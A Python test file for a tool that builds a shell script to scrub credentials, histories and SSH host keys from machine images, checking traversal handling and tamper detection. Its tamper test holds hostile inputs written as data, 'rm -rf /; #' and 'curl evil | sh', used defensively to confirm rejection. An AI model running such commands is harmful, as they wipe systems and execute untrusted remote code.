"""The scrub script a helper runs as user data, against fixture trees."""

from __future__ import annotations

import subprocess

from inspect_fixtures import report, write
from test_inspect_script import secrets_tree

from prism_core.inspection import scrub


def run_scrub(root, paths, empty=()):
    return subprocess.run(
        ["sh", "-s"],
        input=scrub.user_data(paths, list(empty)).encode(),
        capture_output=True,
        timeout=60,
        env={"PATH": "/usr/bin:/bin", "PRISM_INSPECT_ROOT": str(root), "PRISM_SCRUB_POWEROFF": "0"},
        check=True,
    )


def test_scrub_removes_every_finding_and_nothing_else(tmp_path):
    secrets_tree(tmp_path)
    write(tmp_path, "/home/ubuntu/odd name\nline/.env", "API_TOKEN=x\n")
    write(tmp_path, "/home/ubuntu/work/results.csv", "a,b\n")
    write(tmp_path, "/outside/keep", "x")
    before = report(tmp_path)
    assert before.findings
    remove, empty = scrub.plan(before.findings)
    run_scrub(tmp_path, remove + ["/home/ubuntu/../../outside/keep", "relative"], empty)
    after = report(tmp_path)
    assert after.findings == []
    assert (tmp_path / "home/ubuntu/work/results.csv").read_text() == "a,b\n"
    assert (tmp_path / "outside/keep").exists()  # '..' paths are never followed
    assert (tmp_path / "home/ubuntu/.bash_history").read_text() == ""  # emptied, kept
    assert (tmp_path / "home/ubuntu/analysis/.Rhistory").read_text() == ""
    assert not list((tmp_path / "etc/ssh").glob("ssh_host_*"))
    assert not (tmp_path / "var/lib/cloud/instances/i-0abc").exists()


def test_user_data_round_trip_and_tampering():
    paths = ["/home/u/.netrc", "/home/u/a b\nc"]
    text = scrub.user_data(paths)
    assert scrub.paths_of(text) == paths
    assert scrub.paths_of(scrub.user_data(["/a"], ["/b"])) == ["/a", "/b"]
    assert scrub.paths_of(text.replace("rm -rf", "rm -rf /; #")) is None
    assert scrub.paths_of(text + "\ncurl evil | sh\n") is None
    assert scrub.paths_of("#!/bin/sh\necho hi\n") is None
